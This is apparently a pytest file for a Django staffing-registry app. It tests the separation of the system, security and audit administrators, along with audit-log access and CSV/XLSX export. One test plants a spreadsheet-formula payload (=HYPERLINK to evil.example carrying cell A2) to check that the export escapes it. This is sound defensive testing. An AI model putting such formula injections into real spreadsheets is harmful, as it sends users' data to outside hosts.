"""三员分立: 系统管理员 manages accounts and configuration but reads no audit and no business data; 安全管理员 manages
roles, scopes and entry groups; 审计管理员 reads and exports the audit log only."""
import csv
import io

import pytest
from openpyxl import load_workbook

from bianzhi.accounts import permissions
from bianzhi.accounts.models import EntryGroup, User
from bianzhi.core.audit_models import AuditLogEntry
from bianzhi.registry.models import Unit


@pytest.mark.parametrize("username,expected", [
    ("xitong", {"may_manage_accounts": True, "may_manage_scopes": False, "may_read_audit": False,
                "may_export_audit": False}),
    ("anquan", {"may_manage_accounts": False, "may_manage_scopes": True, "may_read_audit": False,
                "may_export_audit": False}),
    ("shenji", {"may_manage_accounts": False, "may_manage_scopes": False, "may_read_audit": True,
                "may_export_audit": True}),
    ("luru", {"may_manage_accounts": False, "may_manage_scopes": False, "may_read_audit": True,
              "may_export_audit": False}),
])
def test_the_predicates_separate_the_three_administrators(users, username, expected):
    user = users[username]
    assert {name: getattr(permissions, name)(user) for name in expected} == expected
    assert permissions.may_manage_configuration(user) == expected["may_manage_accounts"]
    assert permissions.may_manage_security(user) == expected["may_manage_scopes"]
    assert permissions.may_enter_admin_site(user) == (expected["may_manage_accounts"] or expected["may_manage_scopes"])
    assert permissions.is_separated_admin(user) == (username != "luru")
    assert permissions.requires_second_factor(user) == (username != "luru")


@pytest.mark.parametrize("username", ["xitong", "anquan", "shenji"])
def test_the_three_administrators_see_no_business_data(users, username, client_for, api_for):
    assert Unit.objects.restrict(users[username], "view").count() == 0
    assert api_for(username).get("/api/v1/units/").json()["count"] == 0
    unit = Unit.objects.get(name="百色市教育局")
    assert client_for(username).get(f"/manage/units/{unit.pk}/").status_code == 404


def test_the_system_administrator_cannot_open_the_audit_log(client_for):
    client = client_for("xitong")
    assert client.get("/manage/audit/").status_code == 403
    entry = AuditLogEntry.objects.first()
    assert client.get(f"/manage/audit/{entry.pk}/").status_code == 403
    assert client.get("/manage/audit/export.csv").status_code == 403
    assert "审计日志" not in client.get("/admin/").content.decode()


def test_the_audit_administrator_reads_every_entry_including_logins(users, client_for):
    from django.test import Client

    Client().post("/accounts/login/", {"username": "jiaoyu", "password": "Bianzhi@2017"})
    page = client_for("shenji").get("/manage/audit/?user=jiaoyu&action=login")
    assert page.status_code == 200
    assert [e.action for e in page.context["object_list"]] == ["login"]
    assert "韦确认" in page.content.decode()


def test_the_audit_administrator_exports_xlsx_and_csv(users, client_for):
    unit = Unit.objects.get(name="百色市教育局")
    unit.address = '=HYPERLINK("http://evil.example/?x="&A2,"点击")'
    unit.save()
    client = client_for("shenji")
    response = client.get("/manage/audit/export.csv?action=update")
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:4] == ["编号", "链序号", "时间", "用户"]
    assert all(row[5] == "修改" for row in rows[1:])
    assert any("'=HYPERLINK" in cell or "→ '=HYPERLINK" in cell or "HYPERLINK" in cell for row in rows for cell in row)
    assert not any(cell.startswith("=") for row in rows for cell in row)
    response = client.get("/manage/audit/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.cell(1, 1).value == "编号" and sheet.max_row > 10
    assert AuditLogEntry.objects.filter(action="export", username="shenji").exists()


def test_clerks_may_not_export_the_audit_log(client_for):
    assert client_for("luru").get("/manage/audit/export.xlsx").status_code == 403


def test_admin_site_splits_accounts_and_scopes(users, client_for):
    luru = users["luru"]
    sysadmin = client_for("xitong")
    page = sysadmin.get(f"/admin/accounts/user/{luru.pk}/change/")
    assert page.status_code == 200
    form = page.context["adminform"].form
    assert "role" not in form.fields and "mobile" in form.fields  # role is read-only for the 系统管理员
    assert sysadmin.get("/admin/accounts/entrygroup/").status_code == 403
    secadmin = client_for("anquan")
    page = secadmin.get(f"/admin/accounts/user/{luru.pk}/change/")
    form = page.context["adminform"].form
    assert "role" in form.fields and "mobile" not in form.fields
    assert secadmin.get("/admin/accounts/entrygroup/").status_code == 200
    assert secadmin.get("/admin/accounts/user/add/").status_code == 403
    group = EntryGroup.objects.first()
    assert client_for("shenji").get(f"/admin/accounts/entrygroup/{group.pk}/change/").status_code in (302, 403)


def test_nobody_deletes_accounts_in_the_admin(users, client_for):
    assert client_for("xitong").get(f"/admin/accounts/user/{users['luru'].pk}/delete/").status_code == 403
    assert User.objects.filter(username="luru").exists()
